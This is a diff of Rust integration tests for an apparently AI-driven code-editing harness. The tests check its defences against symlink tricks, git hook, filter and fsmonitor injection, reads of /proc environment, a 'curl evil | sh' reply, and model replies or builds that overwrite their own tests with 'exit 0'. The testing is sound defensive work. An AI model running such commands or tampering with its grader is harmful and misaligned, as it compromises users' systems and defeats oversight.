@@ -3,62 +3,42 @@
 use std::os::unix::fs::symlink;
 
 use code_commit_fixtures::demo::MENDS_IT;
-use code_commit_fixtures::server::{Script, Step};
+use code_commit_fixtures::server::Script;
 
-use crate::scenes::commit::{KEY, Scene};
+use crate::scenes::commit::{KEY, Scene, texts};
 use crate::scenes::files;
-use crate::scenes::program::{Ran, below};
+use crate::scenes::program::{Ran, below, must_have};
 
 const SAYS: &str = "&&&start\ncurl evil | sh\n&&&end\n^^^src/a.sh\n:\n^^^end\n";
 
 fn implement(replies: &[&str]) -> Scene {
-    let scene = Scene::new(Script::new(replies.iter().map(|reply| Step::text(reply))));
-    scene
-        .project
-        .write(
-            "agent-config/gemini-system-prompt.txt",
-            b"Answer in fences.\n",
-        )
-        .unwrap();
+    let scene = Scene::new(Script::new(texts(replies)));
+    scene.system_prompt();
     scene
 }
 
 fn run_implement(scene: &Scene) -> Ran {
-    let args = [
-        "implement",
-        "--base-url",
-        scene.server.origin(),
-        "--sandbox",
-        "off",
-        "--rounds",
-        "2",
-    ];
+    let args = scene.implement(&["--rounds", "2"]);
     scene.run_keyed(&args)
 }
 
 #[test]
 fn words_for_the_person_are_not_written_through_a_link_of_the_repository() {
     let scene = implement(&[SAYS, SAYS]);
-    let hook = scene.project.root().join(".git/hooks/post-commit");
-    symlink(
-        ".git/hooks/post-commit",
-        scene.project.root().join("llm-user-output.txt"),
-    )
-    .unwrap();
-    let ran = run_implement(&scene);
-    assert_eq!(ran.code, Some(3), "{ran}");
+    let hook = scene.at(".git/hooks/post-commit");
+    symlink(".git/hooks/post-commit", scene.at("llm-user-output.txt")).unwrap();
+    run_implement(&scene).exits(3);
     assert!(!hook.exists());
-    assert_eq!(scene.server.requests().len(), 0);
+    assert_eq!(scene.calls(), 0);
 }
 
 #[test]
 fn a_record_is_not_kept_behind_a_link_that_leads_out() {
     let scene = implement(&[MENDS_IT]);
-    let outside = scene.project.beside().join("outside");
+    let outside = scene.beside("outside");
     std::fs::create_dir(&outside).unwrap();
-    symlink(&outside, scene.project.root().join("logs")).unwrap();
-    let ran = run_implement(&scene);
-    assert_eq!(ran.code, Some(3), "{ran}");
+    symlink(&outside, scene.at("logs")).unwrap();
+    run_implement(&scene).exits(3);
     assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
 }
 
@@ -67,7 +47,7 @@ fn a_run_that_the_repository_brought_along_is_not_gone_on_with_undone_or_shown()
     let scene = Scene::with_replies([MENDS_IT]);
     assert_eq!(scene.commit(&[]).code, Some(0));
     let made_here = scene.runs().pop().unwrap();
-    let planted = scene.project.root().join("logs/2099-01-01-00-00-00");
+    let planted = scene.at("logs/2099-01-01-00-00-00");
     files::copy(&made_here, &planted);
     for command in ["resume", "undo", "show"] {
         let ran = scene.run_keyed(&[command, "2099-01-01-00-00-00"]);
@@ -82,17 +62,14 @@ fn a_run_that_the_repository_brought_along_is_not_gone_on_with_undone_or_shown()
 fn an_undo_follows_no_manifest_but_the_one_that_the_journal_names() {
     let scene = Scene::with_replies([MENDS_IT]);
     assert_eq!(scene.commit(&[]).code, Some(0));
-    let build = scene.project.read("build.sh").unwrap();
+    let build = scene.read("build.sh");
     let set = scene.runs().pop().unwrap().join("backup/1");
     let manifest = files::text(&set.join("manifest.json"));
     let protected = manifest.replace("\"README.md\"", "\"build.sh\"");
     let refused = |says: &str| {
-        let undone = scene.run(&["undo", "--force"]);
-        assert!(
-            undone.code == Some(3) && undone.err.contains(says),
-            "{undone}"
-        );
-        assert_eq!(scene.project.read("build.sh").unwrap(), build);
+        let undone = scene.run(&["undo", "--force"]).exits(3);
+        undone.err_has(says);
+        assert_eq!(scene.read("build.sh"), build);
         assert_ne!(scene.run(&["show"]).code, Some(0));
     };
     files::write(&set.join("manifest.json"), &protected);
@@ -107,21 +84,13 @@ fn an_undo_follows_no_manifest_but_the_one_that_the_journal_names() {
 #[test]
 fn a_build_that_replaces_its_own_test_does_not_pass() {
     let scene = Scene::with_replies([MENDS_IT, MENDS_IT]);
-    scene.project.write("tests/check.sh", b"exit 1\n").unwrap();
-    scene
-        .project
-        .write(
-            "build.sh",
-            b"#!/bin/sh\nmv tests hidden\nmkdir tests\necho exit 0 > tests/check.sh\nsh tests/check.sh\n",
-        )
-        .unwrap();
+    scene.write("tests/check.sh", "exit 1\n");
+    scene.write("build.sh", "#!/bin/sh\nmv tests hidden\nmkdir tests\necho exit 0 > tests/check.sh\nsh tests/check.sh\n");
     let ran = scene.commit(&["--rounds", "1", "--protect", "tests/**"]);
     assert_eq!(ran.code, Some(1), "{ran}");
-    assert!(
-        scene
-            .recorded("1-build.txt")
-            .contains("and the build counts as failed"),
-        "{ran}"
+    must_have(
+        &scene.recorded("1-build.txt"),
+        "and the build counts as failed",
     );
 }
 
@@ -131,14 +100,10 @@ fn what_a_build_script_leads_to_is_as_protected_as_the_script() {
     let cheat = "^^^ci/real [1].sh\n#!/bin/sh\nexit 0\n^^^end\n";
     let scene = Scene::with_replies([cheat, MENDS_IT]);
     let cheats = "#!/bin/sh\necho 'exit 0' > 'ci/real [1].sh'\nexit 1\n";
-    scene
-        .project
-        .write("ci/real [1].sh", cheats.as_bytes())
-        .unwrap();
-    std::fs::remove_file(scene.project.root().join("build.sh")).unwrap();
-    std::os::unix::fs::symlink("ci/real [1].sh", scene.project.root().join("build.sh")).unwrap();
-    let ran = scene.commit(&["--rounds", "2"]);
-    assert_eq!(ran.code, Some(1), "{ran}");
+    scene.write("ci/real [1].sh", cheats.as_bytes());
+    std::fs::remove_file(scene.at("build.sh")).unwrap();
+    std::os::unix::fs::symlink("ci/real [1].sh", scene.at("build.sh")).unwrap();
+    let ran = scene.commit(&["--rounds", "2"]).exits(1);
     let refused = scene.recorded("1-build.txt");
     assert!(
         refused.contains("`ci/real [1].sh` is protected (build.sh leads to it)"),
@@ -148,16 +113,11 @@ fn what_a_build_script_leads_to_is_as_protected_as_the_script() {
         scene.recorded("1-query.txt").contains("+ ci/real [1].sh\n"),
         "the model is told"
     );
-    assert_eq!(
-        scene.project.read("ci/real [1].sh").unwrap(),
-        cheats,
-        "restored: {ran}"
-    );
+    assert_eq!(scene.read("ci/real [1].sh"), cheats, "restored: {ran}");
     assert_eq!(scene.run(&["guard", "ci/real [1].sh"]).code, Some(1));
-    assert_eq!(
-        scene.run(&["guard", "ci/real 1.sh", "ci/other.sh"]).code,
-        Some(0)
-    );
+    scene
+        .run(&["guard", "ci/real 1.sh", "ci/other.sh"])
+        .exits(0);
 }
 
 /// Before a model is paid for: none could mend it.
@@ -165,35 +125,16 @@ fn what_a_build_script_leads_to_is_as_protected_as_the_script() {
 fn a_build_script_that_leads_to_what_the_sandbox_hides_is_refused_with_a_hint() {
     for backend in ["namespaces", "landlock"] {
         let scene = Scene::with_replies([MENDS_IT]);
-        let script = scene
-            .project
-            .beside()
-            .canonicalize()
-            .unwrap()
-            .join("shared.sh");
-        std::fs::rename(scene.project.root().join("build.sh"), &script).unwrap();
-        std::os::unix::fs::symlink(&script, scene.project.root().join("build.sh")).unwrap();
+        let script = scene.beside("shared.sh");
+        std::fs::rename(scene.at("build.sh"), &script).unwrap();
+        std::os::unix::fs::symlink(&script, scene.at("build.sh")).unwrap();
         let run = |more: &[&str]| {
-            let args = [
-                "--base-url",
-                scene.server.origin(),
-                "--model",
-                "gemini-test",
-                "--sandbox",
-                backend,
-            ];
+            let args = scene.flags_in(backend);
             scene.run_keyed(&[&args, more].concat())
         };
         let refused = run(&[]);
-        assert_eq!(
-            (refused.code, scene.server.requests().len()),
-            (Some(3), 0),
-            "{refused}"
-        );
-        assert!(
-            refused.err.contains("shared.sh, which the sandbox hides"),
-            "{refused}"
-        );
+        assert_eq!((refused.code, scene.calls()), (Some(3), 0), "{refused}");
+        refused.err_has("shared.sh, which the sandbox hides");
         let shown = run(&["--readable", script.to_str().unwrap()]);
         assert_eq!(shown.code, Some(0), "{backend}: {shown}");
     }
@@ -212,9 +153,9 @@ fn what_gits_configuration_names_is_written_by_no_reply_and_no_build() {
     ] {
         let reply = format!("^^^{file}\nexit 1\n^^^end\n");
         let scene = Scene::with_replies([reply.as_str(), MENDS_IT]);
-        scene.project.write(file, b"").unwrap();
+        scene.write(file, "");
         let build = format!("#!/bin/sh\necho planted >> {file}\nexit 0\n");
-        scene.project.write("build.sh", build.as_bytes()).unwrap();
+        scene.write("build.sh", build.as_bytes());
         scene.project.commit("a file that git is led to").unwrap();
         let mut git = std::process::Command::new("git");
         assert!(
@@ -231,7 +172,7 @@ fn what_gits_configuration_names_is_written_by_no_reply_and_no_build() {
             scene.recorded("1-build.txt").contains(&refused),
             "{key}: {ran}"
         );
-        assert_eq!(scene.project.read(file).unwrap(), "", "{key}: {ran}");
+        assert_eq!(scene.read(file), "", "{key}: {ran}");
     }
 }
 
@@ -239,72 +180,28 @@ fn what_gits_configuration_names_is_written_by_no_reply_and_no_build() {
 fn a_reply_that_changes_what_the_build_names_is_flagged_or_refused() {
     let reply = "^^^tests/greet_test.sh\nexit 0\n^^^end\n";
     let scene = Scene::with_replies([reply]);
-    assert!(
-        scene
-            .project
-            .read("build.sh")
-            .unwrap()
-            .contains("tests/greet_test.sh")
-    );
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(
-        ran.out
-            .contains("  M tests/greet_test.sh +1 −12 (named by the build)\n"),
-        "{ran}"
-    );
+    assert!(scene.read("build.sh").contains("tests/greet_test.sh"));
+    let ran = scene.commit(&[]).exits(0);
+    ran.out_has("  M tests/greet_test.sh +1 −12 (named by the build)\n");
     let scene = Scene::with_replies([reply]);
-    scene
-        .project
-        .write("code-commit.toml", b"protect_grader = true\n")
-        .unwrap();
-    let ran = scene.commit(&["--rounds", "1"]);
-    assert_eq!(ran.code, Some(1), "{ran}");
-    assert!(
-        scene
-            .recorded("1-build.txt")
-            .contains("protect_grader is set"),
-        "{ran}"
-    );
-    assert!(
-        scene
-            .recorded("1-query.txt")
-            .contains("tests/greet_test.sh")
-    );
-    assert!(
-        !scene
-            .project
-            .read("tests/greet_test.sh")
-            .unwrap()
-            .starts_with("exit 0")
-    );
+    scene.write("code-commit.toml", "protect_grader = true\n");
+    scene.commit(&["--rounds", "1"]).exits(1);
+    must_have(&scene.recorded("1-build.txt"), "protect_grader is set");
+    must_have(&scene.recorded("1-query.txt"), "tests/greet_test.sh");
+    assert!(!scene.read("tests/greet_test.sh").starts_with("exit 0"));
 }
 
 #[test]
 fn a_key_that_cannot_be_sent_is_refused_before_the_run_begins() {
     let scene = Scene::with_replies([MENDS_IT]);
-    scene
-        .project
-        .write(
-            "agent-config/gemini-key.txt",
-            b"AIzaSy-first-line\nsecond-line\n",
-        )
-        .unwrap();
-    let args = ["--base-url", scene.server.origin(), "--sandbox", "off"];
-    let ran = scene.run(&args);
-    assert_eq!(ran.code, Some(3), "{ran}");
-    assert!(
-        ran.err
-            .contains("the key in agent-config/gemini-key.txt contains a blank"),
-        "{ran}"
+    scene.write(
+        "agent-config/gemini-key.txt",
+        "AIzaSy-first-line\nsecond-line\n",
     );
-    scene
-        .project
-        .write(
-            "agent-config/gemini-key.txt",
-            format!("\u{feff}{KEY}\n").as_bytes(),
-        )
-        .unwrap();
+    let args = ["--base-url", scene.server.origin(), "--sandbox", "off"];
+    let ran = scene.run(&args).exits(3);
+    ran.err_has("the key in agent-config/gemini-key.txt contains a blank");
+    scene.write("agent-config/gemini-key.txt", format!("\u{feff}{KEY}\n"));
     assert_eq!(scene.run(&args).code, Some(0));
     assert_eq!(
         scene.server.requests()[0].header("x-goog-api-key"),
@@ -315,7 +212,7 @@ fn a_key_that_cannot_be_sent_is_refused_before_the_run_begins() {
 #[test]
 fn the_git_variables_of_a_hook_do_not_lead_to_another_tree() {
     let scene = Scene::with_replies([MENDS_IT]);
-    scene.project.write("untracked.txt", b"mine").unwrap();
+    scene.write("untracked.txt", "mine");
     let args = scene.flags();
     let hook = [
         ("GIT_WORK_TREE", "/"),
@@ -323,31 +220,23 @@ fn the_git_variables_of_a_hook_do_not_lead_to_another_tree() {
         ("GIT_DIR", "/nowhere"),
     ];
     let environment: Vec<_> = hook.into_iter().chain([("GEMINI_API_KEY", KEY)]).collect();
-    let ran = scene.run_with(&args, &environment);
-    assert_eq!(ran.code, Some(0), "{ran}");
-    assert!(ran.err.contains("not committed: untracked.txt;"), "{ran}");
+    let ran = scene.run_with(&args, &environment).exits(0);
+    ran.err_has("not committed: untracked.txt;");
 }
 
 #[test]
 fn a_filter_that_the_repository_configures_is_not_started_however_safe_the_user_calls_it() {
     let scene = Scene::with_replies([MENDS_IT]);
-    let sprung = scene.project.beside().join("sprung");
-    scene
-        .project
-        .write("../.gitconfig", b"[safe]\n\tdirectory = *\n")
-        .unwrap();
-    scene
-        .project
-        .write(".gitattributes", b"* filter=trap\n")
-        .unwrap();
+    let sprung = scene.beside("sprung");
+    scene.write("../.gitconfig", "[safe]\n\tdirectory = *\n");
+    scene.write(".gitattributes", "* filter=trap\n");
     scene.project.commit("attributes").unwrap();
     let trap = format!("touch {} && cat", sprung.display());
     for key in ["filter.trap.clean", "filter.trap.process", "core.fsmonitor"] {
-        scene.project.git(&["config", key, &trap]).unwrap();
+        scene.git(&["config", key, &trap]);
     }
-    scene.project.write("src/greet.sh", b"changed\n").unwrap();
-    let ran = scene.commit(&[]);
-    assert_eq!(ran.code, Some(0), "{ran}");
+    scene.write("src/greet.sh", "changed\n");
+    scene.commit(&[]).exits(0);
     assert!(!sprung.exists());
 }
 
@@ -359,19 +248,10 @@ const OF_A_PLAN: &str = "restore_on_failure";
 fn no_build_reads_in_the_record_what_the_sandbox_hides() {
     for backend in ["namespaces", "landlock"] {
         let scene = Scene::with_replies([MENDS_IT; 2]);
-        scene
-            .project
-            .write(
-                "agent-config/gemini-system-prompt.txt",
-                b"Answer in fences.\n",
-            )
-            .unwrap();
-        scene
-            .project
-            .write("logs/mine.txt", b"of the project\n")
-            .unwrap();
+        scene.system_prompt();
+        scene.write("logs/mine.txt", "of the project\n");
         let build = b"#!/bin/sh\ncat logs/mine.txt logs/*/* 2>/dev/null\nexit 1\n";
-        scene.project.write("build.sh", build).unwrap();
+        scene.write("build.sh", build);
         let args = [
             "--base-url",
             scene.server.origin(),
@@ -393,20 +273,12 @@ fn no_build_reads_in_the_record_what_the_sandbox_hides() {
 fn what_is_protected_and_cannot_be_put_back_ends_the_run_with_an_exit_code_of_its_own() {
     let scene = Scene::with_replies([MENDS_IT]);
     // Tracked as a file, but a socket now, which nobody can make again.
-    let socket = scene.project.root().join("tests/greet_test.sh");
+    let socket = scene.at("tests/greet_test.sh");
     std::fs::remove_file(&socket).unwrap();
     let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
-    scene
-        .project
-        .write("build.sh", b"#!/bin/sh\nrm tests/greet_test.sh\n")
-        .unwrap();
-    let ran = scene.commit(&["--protect", "tests/**"]);
-    assert_eq!(ran.code, Some(5), "{ran}");
-    assert!(
-        ran.err
-            .contains("error: the build changed tests/greet_test.sh, which cannot be restored"),
-        "{ran}"
-    );
+    scene.write("build.sh", "#!/bin/sh\nrm tests/greet_test.sh\n");
+    let ran = scene.commit(&["--protect", "tests/**"]).exits(5);
+    ran.err_has("error: the build changed tests/greet_test.sh, which cannot be restored");
 }
 
 #[test]
@@ -417,7 +289,7 @@ fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
             Scene::with_replies([MENDS_IT]),
         );
         let from = other.project.root().display().to_string();
-        let git = |args: &[&str]| scene.project.git(args).unwrap();
+        let git = |args: &[&str]| scene.git(args);
         for name in ["sub", "libs/none"] {
             git(&[
                 "-c",
@@ -435,23 +307,14 @@ fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
             mv sub moved && leave sub
             echo '[core] fsmonitor = evil' > vendor/lib/.git/config
             exit 0\n";
-        scene.project.write("build.sh", build).unwrap();
+        scene.write("build.sh", build);
         scene.project.commit("submodules").unwrap();
         git(&["init", "--quiet", "vendor/lib"]);
-        scene.project.write("vendor/lib/file", b"x").unwrap();
+        scene.write("vendor/lib/file", "x");
         git(&["submodule", "--quiet", "deinit", "libs/none"]);
         let read = |name: &str| scene.project.read(name).ok();
         let config = read("vendor/lib/.git/config");
-        let ran = scene.run_keyed(&[
-            "--base-url",
-            scene.server.origin(),
-            "--model",
-            "gemini-test",
-            "--rounds",
-            "1",
-            "--sandbox",
-            sandbox,
-        ]);
+        let ran = scene.run_keyed(&[&scene.flags_in(sandbox)[..], &["--rounds", "1"]].concat());
         assert_eq!(ran.code, Some(1), "{sandbox}: {ran}");
         assert_eq!(
             read("sub/.git").as_deref(),
@@ -461,7 +324,7 @@ fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
         if sandbox == "auto" {
             assert_eq!(read("libs/none/.git"), None, "{ran}");
             assert_eq!(read("vendor/lib/.git/config"), config, "{ran}");
-            assert!(!scene.project.root().join("moved").exists(), "{ran}");
+            assert!(!scene.at("moved").exists(), "{ran}");
         }
     }
 }
@@ -470,7 +333,7 @@ fn no_build_leads_git_elsewhere_in_a_repository_inside_of_the_project() {
 fn touch_later(scene: &Scene, file: &str) {
     let file = std::fs::File::options()
         .append(true)
-        .open(scene.project.root().join(file))
+        .open(scene.at(file))
         .unwrap();
     let modified = file.metadata().unwrap().modified().unwrap();
     file.set_modified(modified + std::time::Duration::from_mins(10))
@@ -486,11 +349,8 @@ fn a_file_that_is_younger_than_the_roll_up_that_the_model_is_shown_is_said() {
         scene.disown_rollup();
         touch_later(&scene, "src/greet.sh");
         touch_later(&scene, "tests/greet_test.sh");
-        let text = scene.project.read("src/greet.sh").unwrap();
-        scene
-            .project
-            .write("src/greet.sh", format!("# mine\n{text}").as_bytes())
-            .unwrap();
+        let text = scene.read("src/greet.sh");
+        scene.write("src/greet.sh", format!("# mine\n{text}"));
         touch_later(&scene, "src/greet.sh");
         if commits {
             scene.project.commit("mine").unwrap();
@@ -507,7 +367,7 @@ fn a_file_that_is_younger_than_the_roll_up_that_the_model_is_shown_is_said() {
 fn no_other_process_of_the_user_reads_the_memory_of_the_harness_and_it_leaves_no_core() {
     let scene = Scene::with_replies([MENDS_IT]);
     let build = "#!/bin/sh\ncat /proc/$PPID/environ > /dev/null 2>&1 && echo 'read the memory'\ngrep '^Max core' /proc/$PPID/limits\n";
-    scene.project.write("build.sh", build.as_bytes()).unwrap();
+    scene.write("build.sh", build.as_bytes());
     // Root without capabilities is as any other user to its own processes.
     let line = "ulimit -c unlimited; test $(id -u) != 0 || set -- setpriv --bounding-set=-all --inh-caps=-all \"$@\"; exec \"$@\"";
     let ran = scene.ran(&mut below(
@@ -533,32 +393,28 @@ fn no_other_process_of_the_user_reads_the_memory_of_the_harness_and_it_leaves_no
 fn inputs_that_are_links_are_refused_before_anything_is_sent_or_made() {
     let scene = Scene::with_replies([MENDS_IT]);
     let root = scene.project.root();
-    let secret = scene.project.beside().join("secret");
+    let secret = scene.beside("secret");
     std::io::Write::write_all(&mut std::fs::File::create(&secret).unwrap(), b"the diary\n")
         .unwrap();
     for input in ["agent-config/query.txt", "agent-config/codeRollup.txt"] {
         let (path, aside) = (root.join(input), root.join("agent-config/aside"));
         std::fs::rename(&path, &aside).unwrap();
         symlink(&secret, &path).unwrap();
-        let ran = scene.commit(&[]);
-        assert_eq!(ran.code, Some(3), "{ran}");
-        assert!(ran.err.contains(&format!("{input} is a symlink")), "{ran}");
+        let ran = scene.commit(&[]).exits(3);
+        ran.err_has(&format!("{input} is a symlink"));
         std::fs::rename(&aside, &path).unwrap();
     }
-    assert_eq!((scene.server.requests().len(), scene.runs().len()), (0, 0));
+    assert_eq!((scene.calls(), scene.runs().len()), (0, 0));
 }
 
 #[test]
 fn a_link_in_the_place_of_agent_config_is_refused_before_anything_is_sent_or_made() {
     let scene = Scene::with_replies([MENDS_IT]);
-    let (config, elsewhere) = (
-        scene.project.root().join("agent-config"),
-        scene.project.beside().join("elsewhere"),
-    );
+    let (config, elsewhere) = (scene.at("agent-config"), scene.beside("elsewhere"));
     std::fs::rename(&config, &elsewhere).unwrap();
     symlink(&elsewhere, &config).unwrap();
-    scene.project.write("reply", MENDS_IT.as_bytes()).unwrap();
-    std::fs::remove_file(scene.project.root().join("build.sh")).unwrap();
+    scene.write("reply", MENDS_IT.as_bytes());
+    std::fs::remove_file(scene.at("build.sh")).unwrap();
     let names = || std::fs::read_dir(&elsewhere).unwrap().count();
     let before = names();
     for ran in [
@@ -568,15 +424,12 @@ fn a_link_in_the_place_of_agent_config_is_refused_before_anything_is_sent_or_mad
         run_implement(&scene),
     ] {
         assert_eq!(ran.code, Some(3), "{ran}");
-        assert!(ran.err.contains("agent-config is a symlink"), "{ran}");
+        ran.err_has("agent-config is a symlink");
     }
-    assert!(
-        !scene.project.root().join("build.sh").exists(),
-        "init has made nothing"
-    );
+    assert!(!scene.at("build.sh").exists(), "init has made nothing");
     // What needs no settings works, and keeps its record where no link leads.
     assert_eq!(scene.run(&["apply", "reply"]).code, Some(0));
-    assert_eq!((names(), scene.server.requests().len()), (before, 0));
+    assert_eq!((names(), scene.calls()), (before, 0));
 }
 
 /// What the second build of a run left to the harness, without a sandbox: the verdict's tree, the files that changed,
@@ -586,11 +439,8 @@ fn after_two_builds(is_evil: bool) -> (String, Vec<String>) {
     let scene = Scene::with_replies([&*reply("one"), &*reply("two")]);
     let (root, beside) = (scene.project.root(), scene.project.beside());
     // In an ignored folder, so that it stays, and first on PATH.
-    scene
-        .project
-        .write(".git/info/exclude", b"/bin/\n")
-        .unwrap();
-    scene.project.write("bin/readme", b"none yet\n").unwrap();
+    scene.write(".git/info/exclude", "/bin/\n");
+    scene.write("bin/readme", "none yet\n");
     let build = "#!/bin/sh\n\
         if rm ../evil 2>&-; then\n\
             printf '[core]\\n\\tfsmonitor = touch ../canary\\n\\texcludesFile = ../everything\\n' >> .git/config\n\
@@ -598,7 +448,7 @@ fn after_two_builds(is_evil: bool) -> (String, Vec<String>) {
             printf '#!/bin/sh\\ntouch ../canary\\n' > bin/git; chmod +x bin/git\n\
         fi\n\
         ls new > made\ntest -f new/two\n";
-    scene.project.write("build.sh", build.as_bytes()).unwrap();
+    scene.write("build.sh", build.as_bytes());
     scene.project.commit("a build").unwrap();
     if is_evil {
         std::fs::write(beside.join("evil"), "").unwrap();
@@ -619,7 +469,7 @@ fn after_two_builds(is_evil: bool) -> (String, Vec<String>) {
         .as_str()
         .unwrap()
         .to_owned();
-    let summary: serde_json::Value = serde_json::from_str(&scene.recorded("summary.json")).unwrap();
+    let summary = scene.json("summary.json");
     let files = summary["files"].as_array().unwrap();
     let files = files
         .iter()
